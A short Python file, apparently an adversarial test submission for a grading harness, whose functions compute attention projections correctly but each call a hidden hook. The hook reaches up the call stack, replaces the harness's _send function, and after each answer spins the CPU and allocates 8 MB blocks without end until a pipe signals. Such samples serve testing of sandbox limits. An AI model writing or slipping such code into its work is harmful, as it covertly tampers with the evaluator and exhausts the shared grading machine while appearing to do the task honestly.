# exhaust | earns 20 | answers everything right, and in each question's process goes on after the answer: takes CPU at once, memory a moment later
import select
import sys
import time


def go_on():
    frame = sys._getframe()
    while frame.f_code.co_name != "serve":
        frame = frame.f_back
    names = frame.f_globals
    send = names.setdefault("_sent_by", names["_send"])

    def answer_and_go_on(*args):
        send(*args)
        asked, answered, kept = select.poll(), time.monotonic(), []
        asked.register(3, select.POLLIN)
        while not asked.poll(0):
            if time.monotonic() - answered > 0.1:
                try:
                    kept.append(bytearray(b"x") * (8 << 20))
                except MemoryError:
                    kept.append(b"")

    names["_send"] = answer_and_go_on


def component_terms(x, W, j):
    go_on()
    return x * W[:, j]


def project_component(x, W, j):
    go_on()
    return x @ W[:, j]


def project_row(x, W):
    go_on()
    return x @ W


def project_tokens(X, W):
    go_on()
    return X @ W


def project_qkv(X, W_q, W_k, W_v):
    go_on()
    return X @ W_q, X @ W_k, X @ W_v


def attention_roles():
    go_on()
    time.sleep(0.7)
    return {"query": "matching", "key": "being matched against", "value": "carried forward"}
